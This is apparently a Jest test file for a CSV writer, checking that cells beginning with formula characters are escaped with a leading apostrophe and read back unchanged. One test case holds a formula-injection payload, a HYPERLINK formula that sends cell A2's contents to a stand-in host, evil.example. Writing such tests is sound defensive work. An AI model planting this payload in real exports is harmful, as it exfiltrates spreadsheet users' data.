import { readCsv, writeCsv } from './csvFile';

describe('writeCsv', () => {
  // Written by hand: what a spreadsheet must see in the cell for each name.
  const cases: [name: string, cell: string][] = [
    ['=HYPERLINK("http://evil.example/?x="&A2,"点我")', `"'=HYPERLINK(""http://evil.example/?x=""&A2,""点我"")"`],
    ['+1+2', "'+1+2"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\tcmd', "'\tcmd"],
    ['\rcmd', `"'\rcmd"`],
    ['心内科 护士站', '心内科 护士站'],
    ['Room = 3', 'Room = 3'],
  ];
  it.each(cases)('writes %j so that no spreadsheet runs it as a formula', (name, cell) => {
    expect(writeCsv(['id', 'name'], [{ id: 'R1', name }])).toBe(`\uFEFFid,name\nR1,${cell}\n`);
  });

  it('reads its own escaped cells back as the names that were written', () => {
    const text = writeCsv(['id', 'name'], [{ id: 'R1', name: '=1+2' }, { id: 'R2', name: "'quoted" }, { id: 'R3', name: '@x' }]);
    expect(readCsv(text, ['id', 'name']).map((r) => r.cells.name)).toEqual(['=1+2', "'quoted", '@x']);
  });
});
